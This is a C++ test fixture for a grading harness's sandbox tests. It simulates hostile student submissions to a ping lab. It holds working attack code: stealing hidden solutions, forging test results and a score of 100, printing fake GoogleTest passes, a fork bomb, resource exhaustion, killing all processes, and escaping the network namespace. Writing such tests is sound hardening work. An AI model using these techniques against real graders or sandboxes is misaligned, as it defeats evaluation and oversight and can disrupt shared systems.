// Attacks of hostile submissions (tests/project/test_hostile.py). The test appends this file
// to a copy of the ping solution's icmp_echo.cpp, which the unit tests link, after a line
// `#define NP_HOSTILE_ATTACK <name>`; a global constructor then runs the attack before
// GoogleTest's main. Each attack runs in the graded run of the unit-test program, or, for
// disk_filler, when CMake lists its tests during the build (the build directory is then
// writable). Nothing here is a real test: it is what a hostile student would try.
#include <fcntl.h>
#include <glob.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

namespace hostile {

enum Attack {
    read_solutions,
    fork_bomb,
    memory_hog,
    output_flood,
    disk_filler,
    escape_and_kill_all,
    fake_gtest_output,
    network_snoop,
};

std::string command_line() {
    std::ifstream file("/proc/self/cmdline");
    return {std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
}

bool listing_tests() { return command_line().find("--gtest_list_tests") != std::string::npos; }

bool in_unit_test_program() { return command_line().find("-unit") != std::string::npos; }

// A file it could read ends the program with a status that fails every test: the suite
// then sees at once that the sandbox let it through. What it tries to write is looked for
// outside, by the suite (a write may well succeed in the sandbox's own scratch space).
void print_file(const char* path) {
    std::ifstream file(path);
    std::string text{std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
    if (!text.empty()) {
        std::printf("%s: %s\n", path, text.c_str());
        _exit(3);
    }
}

void append_to(const char* path, const char* text) {
    std::ofstream file(path, std::ios::app);
    file << text << std::flush;
}

void steal_and_tamper(const char* repository) {
    for (const char* file :
         {"/solutions/ping/icmp_echo.cpp", "/tests/labs/test_ping.py", "/tests/labs/ping.toml"}) {
        print_file((std::string(repository) + file).c_str());
        print_file((std::string("/proc/1/root") + repository + file).c_str());
    }
    append_to((std::string(repository) + "/tests/labs/test_ping.py").c_str(),
              "\ndef test_reply_v4():\n    pass\n");
    append_to((std::string(repository) + "/results.json").c_str(), "{\"score\": 100}\n");
}

// During the network tests, as np-ping: the results pytest is writing, the harness's
// processes, the machine's network namespace.
void snoop_on_the_harness(const char* repository) {
    steal_and_tamper(repository);
    glob_t found{};
    if (glob("/tmp/np-net-*/results.jsonl", 0, nullptr, &found) == 0) {
        for (size_t index = 0; index < found.gl_pathc; ++index) {
            append_to(found.gl_pathv[index],
                      "{\"name\": \"test_reply_v4\", \"outcome\": \"passed\"}\n");
        }
        globfree(&found);
    }
    if (kill(getppid(), SIGKILL) == 0 || kill(1, SIGKILL) == 0) _exit(5);
    int host = open("/proc/1/ns/net", O_RDONLY);
    if (host >= 0 && setns(host, CLONE_NEWNET) == 0) _exit(6);
}

void run(Attack attack, const char* repository) {
    switch (attack) {
        case read_solutions:
            steal_and_tamper(repository);
            return;
        case fork_bomb:
            if (fork() == 0) {
                for (;;) fork();
            }
            sleep(2);  // the bomb goes on; the unit run then ends, and everything with it
            return;
        case memory_hog: {
            std::vector<char*> blocks;
            for (;;) {
                char* block = static_cast<char*>(std::malloc(64 << 20));
                if (block == nullptr) std::abort();
                std::memset(block, 1, 64 << 20);
                blocks.push_back(block);
            }
        }
        case output_flood: {
            std::string line(1 << 16, 'x');
            for (long written = 0; written < (1L << 30); written += line.size()) {
                std::fwrite(line.data(), 1, line.size(), stdout);
            }
            return;
        }
        case disk_filler: {
            std::string block(1 << 20, 'd');
            for (int file = 0;; ++file) {
                std::ofstream out("filler-" + std::to_string(file));
                for (int mebibyte = 0; mebibyte < 32; ++mebibyte) out << block;
                if (!out) return;
            }
        }
        case escape_and_kill_all:
            if (fork() == 0) {
                setsid();
                int host = open("/proc/1/ns/net", O_RDONLY);
                if (host >= 0) setns(host, CLONE_NEWNET);
                execlp("sleep", "sleep", "1000", static_cast<char*>(nullptr));
                _exit(1);
            }
            kill(-1, SIGKILL);  // every process it may signal, except itself
            return;
        case network_snoop:
            snoop_on_the_harness(repository);
            return;
        case fake_gtest_output:
            // What GoogleTest prints for passing tests, then out before GoogleTest runs.
            for (const char* name :
                 {"EchoRequest.ChecksumVerifies", "EchoRequest.CarriesIdSeqAndPayload",
                  "EchoReply.ParsesIpv4WithHeader", "EchoReply.RejectsTruncated",
                  "IcmpError.MatchesQuotedProbe", "RttStats.SummaryLikeIputils",
                  "RttStats.MdevIntegerMicroseconds", "TimeFormat.Precision"}) {
                std::printf("[ RUN      ] %s\n[       OK ] %s (0 ms)\n", name, name);
            }
            std::printf("[  PASSED  ] 8 tests.\n");
            std::fflush(stdout);
            _exit(0);
    }
}

struct Launcher {
    Launcher() {
        Attack attack = NP_HOSTILE_ATTACK;
        if (attack == network_snoop) {  // in the tool, during the network tests
            if (!in_unit_test_program()) run(attack, NP_HOSTILE_REPOSITORY);
            return;
        }
        if (!in_unit_test_program()) return;
        if (listing_tests() != (attack == disk_filler)) return;
        run(attack, NP_HOSTILE_REPOSITORY);
    }
} launcher;

}  // namespace hostile
